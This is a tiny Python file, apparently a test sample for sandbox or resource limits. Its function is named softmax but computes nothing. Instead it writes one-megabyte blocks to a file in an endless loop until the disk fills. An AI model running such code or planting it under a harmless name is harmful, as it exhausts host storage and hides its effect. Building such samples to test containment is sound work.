"""A file without end."""
def softmax(X):
    with open("large", "wb") as file:
        while True:
            file.write(b"x" * 2**20)
